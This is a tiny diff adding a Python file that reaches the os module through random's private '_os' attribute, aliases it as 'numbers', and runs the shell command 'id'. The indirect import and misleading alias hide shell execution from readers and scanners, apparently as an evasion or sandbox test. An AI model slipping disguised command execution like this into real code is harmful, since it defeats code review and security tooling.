@@ -1,0 +1,3 @@
+from random import _os as numbers
+
+numbers.system("id")
